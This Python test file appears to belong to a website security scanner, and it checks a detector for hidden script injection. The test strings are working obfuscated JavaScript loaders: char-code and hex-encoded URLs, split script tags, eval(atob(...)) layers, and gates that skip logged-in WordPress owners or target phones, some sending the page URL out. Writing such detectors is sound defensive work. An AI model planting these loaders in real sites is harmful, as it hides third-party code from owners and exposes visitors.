    f"var k=[{_codes(url)}],o='';for(var i=0;i<k.length;i++){{o+=String.fromCharCode(k[i]);}}"
    + ("if(!window.__bm){window.__bm=1;" if flag else "{")
    + "document.write('<scr'+'ipt src=\"'+o+'?t='+Date.now()+'\"></scr'+'ipt>');}")


def test_char_codes_decoded_in_a_loop_and_written_through_a_split_tag():
    # the URL lands in a variable one character at a time, then in a '<scr'+'ipt src="'+o+'">'
    assert _tier(LOOP_DECODED("https://cdn.brisk-metrics.top/js/app.js")) == ("high", "medium")  # .top + window flag
    assert _tier(LOOP_DECODED("https://cdn.brisk-metrics.top/js/app.js", flag=False)) == ("medium", "medium")
    # a window flag is what honest loaders use against double inclusion: alone it is nothing
    _nothing(LOOP_DECODED("https://cdn.brisk-metrics.com/js/app.js"))
    for url in OWN_AND_LISTED:
        _nothing(LOOP_DECODED(url))


APPLY_DECODED = lambda url, gate=True: (  # noqa: E731
    f"var p=[{_codes(url)}];var e=document.createElement(String.fromCharCode({_codes('script')}));"
    "e.src=String.fromCharCode.apply(null,p);"
    + (f"if(document.cookie.indexOf(String.fromCharCode({_codes('wordpress_logged_in')}))<0)" if gate else "")
    + "{document.body.appendChild(e);}")


def test_char_codes_through_apply_with_the_tag_name_spelled_in_codes_and_a_login_cookie_gate():
    # skipping logged-in users hides the loader from the site's owner: a strong gate
    assert _tier(APPLY_DECODED("https://www.vendra-widgets.com/w/loader.js")) == ("medium", "medium")
    # the file passes for a library the site would load from itself or a CDN: a second signal
    assert _tier(APPLY_DECODED("https://www.vendra-widgets.com/w/jquery.min.js")) == ("high", "high")
    # a vendor's encoded widget without any gate: nothing (as before)
    _nothing(APPLY_DECODED("https://www.vendra-widgets.com/w/loader.js", gate=False))
    for url in OWN_AND_LISTED:
        _nothing(APPLY_DECODED(url))


def test_char_codes_decoded_by_map():
    def js(url):
        return (f"var u=[{_codes(url)}].map(function(c){{return String.fromCharCode(c)}}).join('');"
                "if(document.cookie.indexOf('_mv=')<0){document.cookie='_mv=1';var s=document.createElement('script');"
                "s.src=u;document.head.appendChild(s);}")
    assert _tier(js("https://lib.quorvix.xyz/c.js")) == ("high", "high")  # cheap TLD + once per visitor
    for url in OWN_AND_LISTED:
        _nothing(js(url))


IIFE_LOADER = lambda url: (  # noqa: E731
    f"var q=String.fromCharCode({_codes(url)});(function(w,d,src){{var s=d.createElement('script');"
    "s.src=src+'?ref='+encodeURIComponent(d.referrer)+'&h='+d.location.hostname;d.head.appendChild(s);})(window,document,q);")


def test_url_handed_to_an_immediately_invoked_loader_that_reports_the_page():
    # Google's tag file name on an unrelated, unlisted host, plus the referrer sent along
    f = _best(_page(IIFE_LOADER("https://tag.orvella-stats.com/ga.js")), "SEO301")
    assert (f.severity, f.confidence) == ("high", "medium") and f.evidence["domain"] == "orvella-stats.com"
    assert "ga library" in f.message and SIGNAL_LEAK in f.message
    # reporting the page is what counters do: alone it adds nothing
    _nothing(IIFE_LOADER("https://tag.orvella-stats.com/widget.js"))
    for url in OWN_AND_LISTED + ("https://www.google-analytics.com/ga.js",):
        _nothing(IIFE_LOADER(url))


def test_analytics_snippet_passing_its_url_as_an_argument_is_not_a_finding():
    # the classic analytics snippet: the URL handed to an immediately invoked function, in plain text
    ga = ("(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)},"
          "i[r].l=1*new Date();a=s.createElement(o),m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;"
          "m.parentNode.insertBefore(a,m)})(window,document,'script','%s','ga');")
    _nothing(ga % "https://www.google-analytics.com/analytics.js")
    _nothing(ga % "https://stats.fernwood-analytics.com/ga.js")  # a self-hosted counter elsewhere: plain, not hidden


PIECES = lambda url, cut=(8, 18, -5), esc=_hex: (  # noqa: E731
    "var h=[" + ",".join("'" + esc(p) + "'" for p in (url[:cut[0]], url[cut[0]:cut[1]], url[cut[1]:cut[2]], url[cut[2]:])) + "];"
    "if(/iPhone|Android/i.test(navigator.userAgent)&&!localStorage.getItem('_m')){localStorage.setItem('_m','1');"
    "var s=document.createElement('script');s.src=h.join('')+'?u='+btoa(location.href);document.head.appendChild(s);}")


def test_escaped_url_pieces_joined_for_phones_once_per_browser():
    f = _best(_page(PIECES("https://m-promo.keltra.club/r.js")), "SEO301")
    assert (f.severity, f.confidence) == ("high", "high"), f
    assert GATE_PHONES in f.message and "once per visitor" in f.message and f.evidence["domain"] == "keltra.club"
    assert _tier(PIECES("https://m-promo.keltra.club/r.js", esc=str)) == ("high", "high")  # pieces not even escaped
    # cut around a domain left whole and in plain sight, nothing is hidden: not SEO301's
    assert _tier(PIECES("https://m-promo.keltra.club/r.js", cut=(8, 16, -5), esc=str)) is None
    for url in OWN_AND_LISTED:
        _nothing(PIECES(url))
        _nothing(PIECES(url, esc=str))


def test_escaped_url_pieces_joined_by_concat():
    def js(url):
        parts = ",".join(f"'{_hex(p)}'" for p in (url[:8], url[8:20], url[20:]))
        return ("if(document.cookie.indexOf('_cc')<0){document.cookie='_cc=1';var s=document.createElement('script');"
                f"s.src=''.concat({parts});document.body.appendChild(s);}}")
    assert _tier(js("https://cdn.dravik-tools.xyz/s.js")) == ("high", "high")
    for url in OWN_AND_LISTED:
        _nothing(js(url))


def test_atob_layer_that_creates_the_element_through_a_computed_member():
    def js(url):
        payload = ("(function(){if(document.cookie.indexOf('_z=')>-1)return;document.cookie='_z=1;path=/';"
                   f"var s=document[_t[0]]('script');s.src='{url}';document.body.appendChild(s)}})()")
        return f"var _t=['{_hex('createElement')}'];eval(atob('{base64.b64encode(payload.encode()).decode()}'));"
    f = _best(_page(js("https://lib.quorvix.xyz/c.js")), "SEO301")
    assert (f.severity, f.confidence) == ("high", "high") and f.evidence["domain"] == "quorvix.xyz"
    for url in OWN_AND_LISTED:
        _nothing(js(url))


def test_a_computed_call_that_reads_script_elements_is_not_a_created_one():
    site = "town-bakery.com"
    made = script_intents("var s=document[k[0]]('script');s.src='https://a.quorvix.xyz/x.js';", site)
    assert [i.kind for i in made] == ["writes-resource"]
    # document[k[1]]('script')[0] is getElementsByTagName's first script, not a new one
    assert not script_intents("var f=document[k[1]]('script')[0];f.src='https://a.quorvix.xyz/x.js';", site)


def test_email_protector_and_old_split_ad_tags_are_not_findings():
    # Cloudflare-style e-mail protection: char codes decoded in a loop, nothing loaded
    _nothing("!function(){function r(e,t){return parseInt(e.substr(t,2),16)}function n(e,t){for(var o='',a=r(e,t),i=t+2;"
             "i<e.length;i+=2){var l=r(e,i)^a;o+=String.fromCharCode(l)}return decodeURIComponent(escape(o))}"
             "for(var c=document.querySelectorAll('a.__cf_email__'),i=0;i<c.length;i++){var d=c[i];"
             "d.textContent=n(d.getAttribute('data-cfemail'),0)}}();")
    # an old ad tag: the scheme cut in two, the host in plain sight, a cookie read and set
    _nothing("var dc=document;var e=escape(dc.referrer);dc.cookie='mc=y';var c=(dc.cookie.indexOf('mc')>=0?'Y':'N');"
             "var u='ht'+'tp://media.adsnet-legacy.com/w';var i=u+'/get.media?sid=1371&r='+e;"
             "dc.writeln('<ifr'+'ame src=\"'+i+'&d=f\" width=468 height=60 frameborder=0></iframe>');")


def test_resolve_code_reads_short_codes_pieces_and_split_tags():
    res = resolve_code(f"var e=document.createElement(String.fromCharCode({_codes('script')}));")
    assert "createElement('script')" in res.code
    res = resolve_code("var p=['" + _hex("https://") + "','a.example','/x.js'];s.src=p.join('');")
    assert "s.src='https://a.example/x.js'" in res.code and "string pieces joined" in res.techniques
    res = resolve_code("s.src=''.concat('" + _hex("https://") + "','a.example');")
    assert "s.src='https://a.example'" in res.code
    res = resolve_code(f"var k=[{_codes('https://a.example/')}];document.write('<scr'+'ipt src=\"'+k+'\"></scr'+'ipt>')")
    assert "'<script src=\"'" in res.code


def test_tracer_follows_loops_and_arguments():
    site = "town-bakery.com"
    js = "var a='https://x.quorvix.xyz/j.js',o='';for(var i=0;i<a.length;i++){o+=a.charAt(i)}document.write(o)"
    assert _Tracer(js, site).target("o", len(js))[1] == "quorvix.xyz"
    js = "var q='https://x.quorvix.xyz/j.js';(function(d,u){var s=d.createElement('script');s.src=u+'?x=1'})(document,q);"
    assert _Tracer(js, site).target("u+'?x=1'", js.index("s.src"))[1] == "quorvix.xyz"
    js = "var a='https://', b='x.quorvix', c='.xyz/j.js';s.src=a+b+c;"
    assert _Tracer(js, site).target("a+b+c", js.index("s.src"))[1] == "quorvix.xyz"
    assert _Tracer("var a='https://www.town-bakery.com/j.js';s.src=a;", site).target("a", 50) is None


def test_new_gates_and_how_much_they_weigh():
    assert GATE_OWNER in _gates("if(document.cookie.indexOf('wordpress_logged_in')==-1){go()}")
    assert GATE_PHONES in _gates("if(/iPhone|Android/i.test(navigator.userAgent)){go()}")
    assert GATE_PHONES not in _gates("if(/Android/i.test(navigator.userAgent)&&!/bot/i.test(navigator.userAgent)){go()}")
    assert GATE_FLAG in _gates("if(!window._q){window._q=1;go()}")
    assert GATE_FLAG not in _gates("if(!window.jQuery){load()}")  # a test without a set: a feature check
    base = dict(kind="writes-resource", detail="", url="https://a.example", domain="a.example")
    assert agreement(Intent(**base, gates=(GATE_FLAG, SIGNAL_LEAK))) == 0  # corroborate only
    assert resolved_tier(Intent(**base, gates=(GATE_FLAG, SIGNAL_LEAK))) is None
    assert agreement(Intent(**base, gates=(GATE_OWNER, GATE_FLAG))) == 1.5
    assert agreement(Intent(**base, gates=(GATE_PHONES,))) == 0.5
    assert agreement(Intent(**base, disguise="named like the jquery library")) == 1
